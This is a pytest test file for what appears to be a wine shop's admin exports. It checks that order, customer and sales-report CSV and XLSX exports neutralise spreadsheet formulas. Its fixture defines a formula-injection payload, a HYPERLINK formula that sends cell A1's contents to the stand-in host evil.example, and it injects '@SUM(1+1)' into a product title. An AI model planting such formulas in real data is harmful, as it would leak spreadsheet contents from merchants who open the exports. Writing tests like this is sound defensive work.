"""Every export a merchant opens in a spreadsheet carries text, never a formula."""

import csv
import io

import openpyxl
import pytest

from orders.models import Customer
from products.models import WinePage

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.fixture
def merchant(staff_client):
    return staff_client("Merchants")


@pytest.fixture
def evil_order(buy, wines):
    WinePage.objects.filter(pk=wines["red"].page_id).update(title="@SUM(1+1)")
    return buy(email="evil@example.com", name=EVIL)


def csv_rows(response):
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_cells(response):
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in book.active.iter_rows() for cell in row]


def test_order_and_customer_exports_neutralise_formulas(merchant, evil_order):
    customer = Customer.objects.get(email="evil@example.com")

    orders = csv_rows(merchant.get("/admin/orders/", {"export": "csv"}))
    customers = csv_rows(merchant.get("/admin/customers/", {"export": "csv"}))

    [order_row] = [row for row in orders if row["Reference"] == evil_order.reference]
    assert order_row["Name"] == "'" + EVIL
    [customer_row] = [row for row in customers if row["Email"] == customer.email]
    assert customer_row["Name"] == "'" + EVIL


@pytest.mark.parametrize("url", ["/admin/orders/", "/admin/customers/"])
def test_xlsx_exports_hold_no_formula(merchant, evil_order, url):
    cells = xlsx_cells(merchant.get(url, {"export": "xlsx"}))

    assert "'" + EVIL in [cell.value for cell in cells]
    assert [cell for cell in cells if cell.data_type == "f"] == []


def test_report_exports_neutralise_formulas(merchant, evil_order):
    rows = csv_rows(
        merchant.get("/admin/shop-reports/sales-by-wine/", {"export": "csv"})
    )

    assert [row for row in rows if "SUM" in str(row)] != []
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row


@pytest.mark.parametrize(
    "value, shown",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ada", "Ada"),
        ("", ""),
    ],
)
def test_each_formula_start_is_neutralised(value, shown):
    from core.exports import neutralise

    assert neutralise(value) == shown
